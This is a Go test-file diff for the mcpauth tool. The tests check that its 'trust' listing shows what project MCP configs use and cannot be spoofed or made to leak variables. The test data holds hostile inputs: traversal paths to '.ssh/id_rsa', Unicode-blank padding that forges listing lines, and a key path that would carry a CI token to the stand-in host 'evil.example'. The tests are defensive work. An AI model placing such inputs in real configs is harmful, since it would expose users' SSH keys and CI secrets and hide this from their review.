@@ -7,7 +7,9 @@ import (
 	"crypto/x509"
 	"encoding/json"
 	"encoding/pem"
+	"errors"
 	"fmt"
+	"io/fs"
 	"os"
 	"path/filepath"
 	"runtime"
@@ -16,6 +18,7 @@ import (
 	"testing"
 	"time"
 
+	"mcpauth/internal/config"
 	"mcpauth/internal/demo"
 	"mcpauth/pkg/keystore"
 )
@@ -124,10 +127,14 @@ func TestTrustShowsAll(t *testing.T) {
 	// These paths may lead out of the project. A check of the cleaned path would not notice that, because cleaning removes the element
 	// before "..".
 	u.env = append(u.env, "PLACE=a/b")
+	key := filepath.Join(u.home, "a", "key")
+	if err := errors.Join(os.Mkdir(filepath.Dir(key), 0o700), os.WriteFile(key, nil, 0o600)); err != nil {
+		t.Fatal(err)
+	}
 	u.project(t, `{"mcpServers":{"a":{"url":"https://x","auth":{"clientKey":"${UP:-..}/../.ssh/id_rsa"}},"b":{"url":"https://x","auth":{"clientKey":"${UP}/../.ssh/id_rsa"}},
 		"c":{"url":"https://x","auth":{"clientKey":"${PLACE}/../key"}}}}`)
 	u.must(t, exitDone, "trust")
-	for _, file := range []string{filepath.Join(filepath.Dir(filepath.Dir(u.home)), ".ssh", "id_rsa"), "${UP}/../.ssh/id_rsa", filepath.Join(u.home, "a", "key")} {
+	for _, file := range []string{"${UP:-..}/../.ssh/id_rsa", "${UP}/../.ssh/id_rsa", "${PLACE}/../key -> " + realPath(key)} {
 		if s := u.stdout.String(); !strings.Contains(s, "files "+file+"\n") {
 			t.Errorf("stdout lacks %s: %q", file, s)
 		}
@@ -139,22 +146,63 @@ func TestTrustShowsAll(t *testing.T) {
 	}
 }
 
-// The name of a file cannot look like another item in the list that trust prints.
+// A name, a URL or a path cannot look like another item or another line in the list that trust prints, even on a narrow terminal.
 func TestTrustQuotesItems(t *testing.T) {
 	t.Parallel()
 	u := newUser(t)
 	for _, name := range []string{"k; issuer https:/as.good.example", "k, /etc/other", "k -> /etc/other"} {
 		u.project(t, `{"mcpServers":{"a":{"url":"https://x","auth":{"clientId":"c","clientKey":"`+name+`"}}}}`)
 		u.must(t, exitDone, "trust")
-		if s := u.stdout.String(); !strings.HasSuffix(s, "; files "+strconv.Quote(filepath.Join(u.home, name))+"\n") {
+		if s := u.stdout.String(); !strings.HasSuffix(s, "; files "+strconv.Quote(name)+"\n") {
 			t.Errorf("stdout: %q", s)
 		}
 	}
-	const name = "  uses: no variables, files, headers or auth"
-	u.project(t, `{"mcpServers":{"`+name+`":{"url":"https://x"}}}`)
-	u.must(t, exitDone, "trust")
-	if s := u.stdout.String(); !strings.HasPrefix(s, strconv.Quote(name)+"\n") {
-		t.Errorf("stdout: %q", s)
+	for _, blank := range []string{" ", "\u2800", "\u3164", "\u00a0"} {
+		forged := strings.Repeat(blank, 80) + "uses: no variables, files, headers or auth"
+		u.project(t, `{"mcpServers":{"`+forged+`":{"url":"https://x${P:-/`+forged+`}","auth":{"clientId":"c","clientKey":"k`+forged+`"}}}}`)
+		u.must(t, exitDone, "trust")
+		if s, want := u.stdout.String(), `"uses: no variables, files, headers or auth"`+"\n  address: "+`"https://x${P:-/ uses: no variables, files, headers or auth}"`+"\n"+
+			`  uses: variables P; auth clientId, clientKey; files "k uses: no variables, files, headers or auth"`+"\n"; s != want {
+			t.Errorf("stdout: %q, want %q", s, want)
+		}
+	}
+}
+
+// A project's file cannot make mcpauth print or store the value of a variable, or read it before the file is trusted.
+func TestProjectNamesAVariableAsAPath(t *testing.T) {
+	t.Parallel()
+	u := newUser(t)
+	u.env = append(u.env, "CI_TOKEN=canary-of-ci")
+	u.project(t, `{"mcpServers":{"x":{"url":"`+u.good.URL()+`","auth":{"clientId":"c","clientKey":"${CI_TOKEN}","issuer":"${CI_TOKEN}"}}}}`)
+	for _, tt := range []struct {
+		code int
+		args []string
+	}{{exitUsage, []string{"tools", "x"}}, {exitUsage, []string{"login", "--all"}}, {exitDone, []string{"trust"}}, {exitDone, []string{"trust", "--json"}}, {exitDone, []string{"trust", "--list", "--json"}}} {
+		u.must(t, tt.code, tt.args...)
+		if all := u.stdout.String() + u.stderr.String(); strings.Contains(all, "canary-of-ci") {
+			t.Errorf("%q: %s", tt.args, all)
+		}
+	}
+	err := filepath.WalkDir(u.home, func(path string, _ fs.DirEntry, err error) error {
+		if data, _ := os.ReadFile(path); strings.Contains(string(data), "canary-of-ci") {
+			t.Errorf("%s contains the variable", path)
+		}
+		return err
+	})
+	if err != nil {
+		t.Error(err)
+	}
+
+	p := testProgram()
+	p.lookupEnv = func(name string) (string, bool) {
+		if name == "CI_TOKEN" {
+			t.Error("the variable is read before the file is trusted")
+		}
+		return u.home, name == "HOME" || name == "LOCALAPPDATA" || name == "USERPROFILE"
+	}
+	e := config.Entry{Name: "x", Path: filepath.Join(u.home, "other.json"), Found: true, Auth: &config.Auth{ClientKey: "/net/${CI_TOKEN}.evil.example/k"}}
+	if _, err := p.checkTrusted(t.Context(), e); err == nil || !strings.Contains(err.Error(), "/net/${CI_TOKEN}.evil.example/k") {
+		t.Errorf("got %v", err)
 	}
 }
 
@@ -177,7 +225,7 @@ func TestTrustedFilesOfEarlierVersions(t *testing.T) {
 		t.Fatal(err)
 	}
 	known, err := p.trustedFiles(t.Context())
-	if err != nil || len(known) != 1 || known[0].hasMovedFile(map[string]string{key: filepath.Join(home, "other.pem")}) {
+	if err != nil || len(known) != 1 || known[0].hasMovedFile(map[string]string{key: filepath.Join(home, "other.pem")}) || !known[0].hasMovedFile(map[string]string{key: key}) {
 		t.Errorf("got %+v, %v", known, err)
 	}
 }
